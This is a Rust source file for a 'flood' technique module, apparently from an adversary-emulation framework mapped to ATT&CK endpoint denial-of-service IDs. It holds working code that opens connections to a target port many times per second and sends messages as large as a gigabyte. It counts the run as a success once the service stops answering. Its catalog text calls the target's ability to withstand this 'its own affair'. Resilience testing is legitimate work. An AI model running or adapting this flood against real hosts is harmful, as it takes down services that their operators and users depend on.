//! Asks a service more often than it can bear.

use super::craft::contact::Contact;
use super::craft::part;
use super::{Progress, Technique};
use crate::catalog::Entry;
use crate::net::port::{Input, SocketEvent};
use crate::parameters::{Host, Parameters, Port};
use crate::time::Duration;
use crate::wire::Message;

/// Technique `flood`.
#[derive(Debug)]
pub(super) struct Flood;

/// What a step gives to it.
#[derive(Clone, Debug, Parameters)]
pub(super) struct Params {
    /// Host to flood.
    target: Host,
    /// Port of the service.
    #[param(port_of = "target")]
    port: Port,
    /// Requests.
    #[param(default = 50, range = 1..=1000, unit = "per second")]
    per_second: u32,
    /// Length of each message.
    #[param(default = 400, range = 0..=1000000000, unit = "bytes")]
    bytes: u32,
    /// How long it goes on.
    #[param(default = "2m")]
    over: Duration,
}

/// What an attempt remembers.
#[derive(Clone, Debug, Default)]
pub(super) struct State {
    contact: Contact,
    /// Streams that nobody answered.
    unanswered: u32,
}
part!(State.contact: Contact);

type Step<'s, 'a, 'c> = super::Step<'s, 'a, 'c, Flood>;

static ENTRY: Entry = Entry {
    id: "flood",
    title: "Flood a service with requests",
    summary: "Opens a stream to a port many times per second, sends one message of a size on each, and closes it. Ends after a time, as success if \
              by then the service has stopped answering. What the target bears is its own affair: a host without a limit answers all of them. Its noise is \
              the flood.",
    parameters: Params::PARAMETERS,
    relations: Params::RELATIONS,
    references: &["T1499.002", "T0814"],
};

const TOKEN_NEXT: u32 = 1;
const TOKEN_END: u32 = 2;

fn next(step: &mut Step<'_, '_, '_>) -> Progress {
    let pause = Duration::from_secs_f64(1.0 / f64::from(step.params.per_second));
    if let Some(ip) = step.state.contact.target {
        step.hands.connect(ip, step.params.port.0);
    }
    step.hands.timer(pause, TOKEN_NEXT);
    Progress::Reached(1)
}

fn begin(step: &mut Step<'_, '_, '_>) -> Progress {
    step.hands.timer(step.params.over, TOKEN_END);
    next(step)
}

impl Technique for Flood {
    type Params = Params;
    type State = State;
    const ENTRY: &'static Entry = &ENTRY;
    const STAGES: &'static [&'static str] = &["find", "flood", "answered", "no longer answered"];

    fn patience(params: &Params) -> Duration {
        params.over + Duration::from_mins(1)
    }

    fn act(step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        let name = &step.params.target;
        match input {
            Input::Begin => match step.find(name) {
                Some(_) => begin(step),
                None => Progress::Wait,
            },
            Input::Socket(SocketEvent::Resolved { ip: Some(ip), .. }) => {
                step.found(name, *ip);
                begin(step)
            }
            Input::Socket(SocketEvent::Resolved { ip: None, .. }) => {
                Progress::Failed("no such name, or no name server")
            }
            Input::Timer(TOKEN_NEXT) => next(step),
            Input::Timer(TOKEN_END) if step.stage < 2 => Progress::Failed("it never answered"),
            // What was asked in the last while and not answered is told by how many streams failed.
            Input::Timer(TOKEN_END) if step.state.unanswered > 0 => {
                Progress::Done("it answers no more")
            }
            Input::Timer(TOKEN_END) => Progress::Failed("it answered to the end"),
            Input::Socket(SocketEvent::Opened(stream)) => {
                let bytes = step.params.bytes;
                step.hands.send(*stream, Message::Opaque { bytes });
                step.hands.close(*stream);
                Progress::Reached(2)
            }
            Input::Socket(SocketEvent::Failed { refused: false, .. }) => {
                step.state.unanswered += 1;
                Progress::Wait
            }
            _ => Progress::Wait,
        }
    }
}
